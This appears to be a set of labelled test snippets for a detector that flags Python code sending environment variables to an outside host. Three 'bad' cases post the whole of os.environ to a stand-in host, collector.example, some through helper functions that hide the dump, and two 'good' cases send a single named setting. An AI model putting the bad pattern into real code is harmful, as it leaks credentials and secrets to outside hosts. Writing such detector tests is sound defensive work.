# bad: posted as JSON
import os
import requests

requests.post("https://collector.example/e", json=dict(os.environ))
# good: nearly: one setting
import os
import requests

requests.get("https://api.example/", params={"stage": os.environ["STAGE"]})
# bad: written out by a helper, in a format
import os
import requests
from helpers import encoding

requests.post("https://collector.example/e", json={"all": encoding.dump(os.environ, "JSON")})
# bad: read by a helper that names no variable
import os
import requests
from helpers import encoding

requests.post("https://collector.example/e", json={"all": encoding.getAll(os.environ, "utf-8")})
# good: nearly: one setting, through a helper that is given all of them
import os
import requests
from helpers import encoding

requests.post("https://api.example/", json={"term": encoding.getValue(os.environ, "TERM", "unknown")})
